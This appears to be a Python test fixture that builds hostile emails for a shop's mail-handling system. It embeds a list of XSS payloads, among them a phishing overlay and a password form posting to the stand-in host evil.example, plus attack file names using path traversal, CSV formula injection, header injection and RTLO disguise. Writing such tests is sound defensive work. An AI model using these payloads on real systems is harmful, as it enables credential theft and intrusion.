"""Mails and file names that mean harm to whoever looks at them."""

#: Each would do something in a page that let it: run, ask, go elsewhere, send a form, fetch from another host.
EVIL = "https://evil.example"
HTML = (
    "<script>window.harmed=1;alert(1)</script>",
    "<img src=x onerror=\"window.harmed=1;alert(1)\">",
    f"<img src='{EVIL}/pixel.gif' width=1 height=1>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    f"<svg><image href='{EVIL}/a.png'/><use href='{EVIL}/b.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='<script>top.harmed=1;alert(1)</script>'></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x.swf'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'><a href='x'>here</a><img src='y.png'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'><link rel=prefetch href='{EVIL}/p'>",
    f"<style>@import url({EVIL}/x.css); body{{background:url({EVIL}/b.png)}}</style>",
    f"<div style=\"background:url('{EVIL}/c.png')\">x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>sign in again</div>",
    f"<form action='{EVIL}' method=post><input name=password><button autofocus>go</button></form>",
    f"<form id=f action='{EVIL}'></form><button form=f formaction='{EVIL}'>go</button>",
    "<form action='/console/people' method=post><input name=act value=add><input type=submit></form>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href='java&#10;script:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    f"<a href='{EVIL}' target=_top ping='{EVIL}/ping'>click</a>",
    "<a href='#' onclick='alert(1)' onmouseover='alert(1)' onfocus='alert(1)' autofocus tabindex=1>click</a>",
    f"<video autoplay src='{EVIL}/v.mp4' poster='{EVIL}/p.png' onerror=alert(1)></video>",
    f"<audio autoplay src='{EVIL}/a.mp3'></audio><source srcset='{EVIL}/s.png'>",
    f"<picture><source srcset='{EVIL}/1.webp'><img srcset='{EVIL}/2.png 2x' src='{EVIL}/3.png'></picture>",
    f"<table background='{EVIL}/t.png'><tr><td background='{EVIL}/u.png'>x</td></tr></table>",
    f"<body background='{EVIL}/v.png' onload='alert(1)' onpageshow='alert(1)'>x</body>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "</iframe></textarea></title></style></script>\"'><script>top.harmed=1;alert(1)</script>",
    "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;top.harmed=1&lt;/script&gt;<img src=x onerror=&#97;lert(1)>",
    f"<input type=image src='{EVIL}/i.png' formaction='{EVIL}' autofocus onfocus=alert(1)><isindex action={EVIL}>",
)  # fmt: skip

FILE_NAMES = (
    "<script>alert(1)</script>.pdf",
    '"><img src=x onerror=alert(1)>.png',
    "'onmouseover='alert(1).txt",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "C:\\autoexec.bat",
    "/absolute/path.txt",
    "invoice\u202efdp.exe",
    "nul\x00byte.pdf",
    "line\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "=cmd|'/C calc'!A0.csv",
    "{{7*7}}${7*7}<%= 7*7 %>.txt",
    ".htaccess",
    "a" * 4000 + ".pdf",
    "&lt;img src=x onerror=alert(1)&gt;.jpg",
)


def mail_with(markup: str, number: int) -> bytes:
    """A mail whose HTML is `markup`, and which asks for something, so that it is kept."""
    lines = (
        f"From: Eve <eve{number}@example.org>",
        "To: hello@shop.example",
        f"Subject: {markup[:60]!r}",
        "Date: Mon, 02 Mar 2026 10:00:00 +0000",
        f"Message-ID: <hostile{number}@customers.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/alternative; boundary="b"',
        "",
        "--b",
        "Content-Type: text/plain; charset=utf-8",
        "",
        f"deletion\n{markup}",
        "--b",
        "Content-Type: text/html; charset=utf-8",
        "",
        f"<p>deletion please</p>{markup}<p>end of the mail</p>",
        "--b--",
        "",
    )
    return "\r\n".join(lines).encode()


def mail_with_file(name: str, number: int) -> bytes:
    """A mail with an attachment of this name."""
    quoted = name.encode("utf-8").hex(sep="%").upper()
    lines = (
        f"From: Eve <file{number}@example.org>",
        "To: hello@shop.example",
        "Subject: files",
        "Date: Mon, 02 Mar 2026 10:00:00 +0000",
        f"Message-ID: <file{number}@customers.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "deletion",
        "--b",
        "Content-Type: text/html",
        f"Content-Disposition: attachment; filename*=utf-8''%{quoted}",
        "",
        "<script>alert(1)</script>",
        "--b--",
        "",
    )
    return "\r\n".join(lines).encode()
